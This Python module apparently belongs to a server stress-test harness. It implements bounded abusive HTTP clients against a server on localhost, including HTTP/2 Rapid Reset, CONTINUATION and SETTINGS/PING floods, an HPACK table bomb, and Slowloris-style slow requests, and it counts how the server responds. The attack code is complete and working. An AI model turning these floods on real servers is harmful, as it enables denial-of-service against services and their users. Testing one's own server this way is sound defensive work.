"""What abusing clients do, each for a bounded time on a bounded number of connections."""
import asyncio, collections, itertools, struct
from wire import *

CHUNK = 64 * 1024
RECONNECTS = 300


class Abuse:
    """One kind of abuse under way: what became of its connections is counted."""

    def __init__(self, port, host, seconds):
        self.port, self.host = port, host
        self.until = asyncio.get_running_loop().time() + seconds
        self.outcomes = collections.Counter()
        self.connections = 0
        self.received = 0
        self.sent = 0

    def time_left(self):
        return self.until - asyncio.get_running_loop().time()

    async def connect(self):
        self.connections += 1
        return await asyncio.open_connection("127.0.0.1", self.port, limit=1 << 16)

    async def many(self, count, one):
        await asyncio.gather(*(self.one(one, i) for i in range(count)))

    async def one(self, work, number):
        try:
            await asyncio.wait_for(work(number), max(0.1, self.time_left()))
        except (asyncio.TimeoutError, TimeoutError):
            self.outcomes["open at the end"] += 1
        except (ConnectionError, asyncio.IncompleteReadError, OSError) as e:
            self.outcomes["closed" if isinstance(e, asyncio.IncompleteReadError) else type(e).__name__] += 1

    async def flood(self, count, opening, chunks):
        """Connections that write what {chunks} yields as fast as it is taken, again and again while they are cut off."""
        await self.many(count, lambda _: self.flooding(opening, chunks))

    async def flooding(self, opening, chunks):
        while self.time_left() > 0 and self.connections < RECONNECTS:
            reader, writer = await self.connect()
            said = []
            listening = asyncio.create_task(self.listen(reader, said))
            try:
                writer.write(PREFACE + settings() + opening)
                for chunk in chunks():
                    if listening.done() or self.time_left() <= 0:
                        break
                    writer.write(chunk)
                    self.sent += len(chunk)
                    await writer.drain()
                    await asyncio.sleep(0)
            except (ConnectionError, OSError):
                pass
            if self.time_left() > 0:
                await asyncio.wait([listening], timeout=min(2.0, self.time_left()))
                self.outcomes[said[0] if said else "closed" if listening.done() else "left alone"] += 1
            else:
                self.outcomes[said[0] if said else "open at the end"] += 1
            listening.cancel()
            writer.transport.abort()

    async def listen(self, reader, said):
        try:
            while True:
                kind, flags, stream, payload = await read_frame(reader)
                self.received += len(payload)
                if kind == GOAWAY:
                    said.append("GOAWAY " + code(struct.unpack(">I", payload[4:8])[0]))
        except (ConnectionError, asyncio.IncompleteReadError, OSError):
            return


def length(bytes_to_come):
    return literal("content-length", str(bytes_to_come))


async def downloads_http1(abuse, count=200, seconds=1.0, size=65536):
    async def one(_):
        reader, writer = await abuse.connect()
        writer.write(b"POST /large HTTP/1.1\r\nHost: %s\r\nContent-Length: 1\r\n\r\nx" % abuse.host.encode())
        while seconds:
            data = await reader.read(size)
            abuse.received += len(data)
            if not data:
                raise asyncio.IncompleteReadError(b"", 1)
            await asyncio.sleep(seconds)
        writer.transport.pause_reading()
        await asyncio.Event().wait()

    await abuse.many(count, one)


async def downloads_http2(abuse, connections=20, streams=10, seconds=1.0, window=65536):
    async def one(_):
        reader, writer = await abuse.connect()
        writer.write(PREFACE + settings(window=window) + window_update(0, 1 << 30))
        for i in range(streams):
            writer.write(frame(HEADERS, END_HEADERS, 2 * i + 1, request(abuse.host, "POST", "/large", length(1))))
            writer.write(frame(DATA, END_STREAM, 2 * i + 1, b"x"))
        loop = asyncio.get_running_loop()
        while True:
            kind, flags, stream, payload = await read_frame(reader)
            if kind == DATA and seconds and payload:
                abuse.received += len(payload)
                loop.call_later(seconds * len(payload) / 65536, writer.write, window_update(stream, len(payload)))
            elif kind == SETTINGS and not flags & ACK:
                writer.write(frame(SETTINGS, ACK, 0))
            elif kind == GOAWAY:
                abuse.outcomes["GOAWAY " + code(struct.unpack(">I", payload[4:8])[0])] += 1
            elif kind == RST_STREAM:
                abuse.outcomes["RST_STREAM " + code(struct.unpack(">I", payload)[0])] += 1

    await abuse.many(connections, one)


async def uploads_http1(abuse, count=200):
    async def one(_):
        reader, writer = await abuse.connect()
        writer.write(b"POST /slow HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n" % (abuse.host.encode(), 100 << 20))
        piece = bytes(CHUNK)
        for _ in range(100 << 4):
            writer.write(piece)
            await writer.drain()
            abuse.sent += CHUNK
        await reader.read()

    await abuse.many(count, one)


async def uploads_http2(abuse, connections=20, streams=10):
    async def one(_):
        reader, writer = await abuse.connect()
        writer.write(PREFACE + settings() + window_update(0, 1 << 30))
        whole, windows, initial = 65535, {}, 65535
        for i in range(streams):
            writer.write(frame(HEADERS, END_HEADERS, 2 * i + 1, request(abuse.host, "POST", "/slow", length(100 << 20))))
            windows[2 * i + 1] = initial
        while True:
            for stream in windows:
                size = min(whole, windows[stream], 16384)
                while size > 0:
                    whole -= size
                    windows[stream] -= size
                    abuse.sent += size
                    writer.write(frame(DATA, 0, stream, bytes(size)))
                    await writer.drain()
                    size = min(whole, windows[stream], 16384)
            kind, flags, stream, payload = await read_frame(reader)
            if kind == WINDOW_UPDATE and stream == 0:
                whole += int.from_bytes(payload, "big")
            elif kind == WINDOW_UPDATE and stream in windows:
                windows[stream] += int.from_bytes(payload, "big")
            elif kind == SETTINGS and not flags & ACK:
                for at in range(0, len(payload), 6):
                    name, value = struct.unpack(">HI", payload[at:at + 6])
                    if name == INITIAL_WINDOW:
                        windows = {each: left + value - initial for each, left in windows.items()}
                        initial = value
                writer.write(frame(SETTINGS, ACK, 0))
            elif kind in (GOAWAY, RST_STREAM):
                abuse.outcomes[("GOAWAY " if kind == GOAWAY else "RST_STREAM ") + code(struct.unpack(">I", payload[-4:])[0])] += 1

    await abuse.many(connections, one)


async def slow_heads(abuse, count=2000):
    await trickle(abuse, count, b"GET / HTTP/1.1\r\nHost: %s\r\nX-Slow: " % abuse.host.encode())


async def slow_bodies(abuse, count=2000):
    await trickle(abuse, count, b"POST /slow HTTP/1.1\r\nHost: %s\r\nContent-Length: 1000000\r\n\r\n" % abuse.host.encode())


async def trickle(abuse, count, opening):
    async def one(number):
        await asyncio.sleep(number / count)
        reader, writer = await abuse.connect()
        writer.write(opening)
        answer = asyncio.create_task(reader.read())
        while not answer.done():
            writer.write(b"x")
            await asyncio.wait([answer], timeout=1.0)
        text = answer.result()
        abuse.outcomes["answered " + text[9:12].decode() if text else "closed"] += 1
        writer.close()

    await abuse.many(count, one)


def batches(make, per_batch=400):
    """Chunks of a frame sequence in which every stream id is used once."""
    def chunks():
        ids = itertools.count(1, 2)
        while True:
            yield b"".join(make(next(ids)) for _ in range(per_batch))
    return chunks


def same(piece):
    chunk = piece * max(1, CHUNK // len(piece))
    return lambda: itertools.repeat(chunk)


async def rapid_reset(abuse):
    block = request(abuse.host)
    await abuse.flood(10, b"", batches(
        lambda i: frame(HEADERS, END_HEADERS | END_STREAM, i, block) + frame(RST_STREAM, 0, i, b"\0\0\0\x08")))


async def made_you_reset(abuse):
    block = request(abuse.host)
    await abuse.flood(10, b"", batches(
        lambda i: frame(HEADERS, END_HEADERS | END_STREAM, i, block) + window_update(i, 0)))


async def made_you_reset_by_data(abuse):
    block = request(abuse.host)
    await abuse.flood(10, b"", batches(
        lambda i: frame(HEADERS, END_HEADERS | END_STREAM, i, block) + frame(DATA, 0, i, b"x")))


async def continuation(abuse):
    opening = frame(HEADERS, 0, 1, request(abuse.host))
    await abuse.flood(10, opening, same(frame(CONTINUATION, 0, 1, literal("x-a", "b" * 1000) * 16)))


async def small_continuation(abuse):
    opening = frame(HEADERS, 0, 1, request(abuse.host))
    await abuse.flood(10, opening, same(frame(CONTINUATION, 0, 1, b"")))


async def settings_flood(abuse):
    await abuse.flood(10, b"", same(frame(SETTINGS, 0, 0)))


async def ping_flood(abuse):
    await abuse.flood(10, b"", same(frame(PING, 0, 0, bytes(8))))


async def empty_data(abuse):
    opening = frame(HEADERS, END_HEADERS, 1, request(abuse.host, "POST"))
    await abuse.flood(10, opening, same(frame(DATA, 0, 1)))


async def window_flood(abuse):
    await abuse.flood(10, b"", same(window_update(0, 1)))


async def priority_flood(abuse):
    await abuse.flood(10, b"", batches(lambda i: frame(PRIORITY, 0, i, b"\0\0\0\0\x10"), 4000))


async def hpack_bomb(abuse):
    # One large entry in the table, then thousands of references of a byte each (index 62 is the newest entry).
    opening = frame(HEADERS, END_HEADERS | END_STREAM, 1, request(abuse.host, more=literal("x", "y" * 3900, 0x40)))
    block = request(abuse.host) + b"\xbe" * 16000

    def chunks():
        for i in itertools.count(3, 2):
            yield frame(HEADERS, END_HEADERS | END_STREAM, i, block)
    await abuse.flood(10, opening, chunks)


async def empty_headers(abuse):
    block = request(abuse.host) + literal("", "") * 5000
    await abuse.flood(10, b"", batches(lambda i: frame(HEADERS, END_HEADERS | END_STREAM, i, block), 10))


async def slow_streams(abuse):
    """The most streams a connection may have, each asking for 100 MB of which it takes a byte a second."""
    await downloads_http2(abuse, connections=50, streams=256, seconds=0, window=1)


async def stalled_http1(abuse):
    await downloads_http1(abuse, seconds=0)


async def stalled_http2(abuse):
    await downloads_http2(abuse, connections=200, streams=1, seconds=0, window=65535)
